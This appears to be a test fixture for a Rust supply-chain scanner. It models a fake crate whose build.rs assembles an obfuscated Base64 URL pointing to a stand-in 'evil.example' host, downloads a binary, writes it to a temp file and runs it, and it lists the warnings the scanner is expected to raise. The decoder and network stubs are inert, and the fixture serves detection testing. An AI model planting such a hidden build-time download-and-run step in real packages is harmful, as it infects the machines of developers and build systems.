// The technique of proc-macro1 (2026): pieces of Base64 make the address, the build script fetches, writes and starts.
//@ package: proc-macro1
//@ target: lib src/lib.rs
//@ target: build build.rs
//@ build-deps: web=ureq
//@ finds: build-net warn proc-macro1
//@ finds: download-and-run warn proc-macro1
//@ finds: hidden-string warn proc-macro1
//@ file: src/lib.rs
pub fn nothing() {}
//@ file: build.rs
use std::process::Command;
const A: &str = "aHR0cHM6L";
const B: &str = "y9kcm9wLm";
fn main() {
    let mut whole = format!("{}{}", A, B);
    for more in ["V2aWwuZXh", "hbXBsZS94", "ODZfNjQuY", "mlu"] {
        whole.push_str(more);
    }
    let bytes = web::get(&decode(&whole));
    let file = std::env::temp_dir().join("helper");
    let _ = std::fs::write(&file, bytes);
    let _ = Command::new(&file).spawn();
}
fn decode(_: &str) -> String { String::new() }
//@ package: ureq
//@ file: src/lib.rs
pub fn get(url: &str) -> Vec<u8> {
    let _ = std::net::TcpStream::connect(url);
    Vec::new()
}
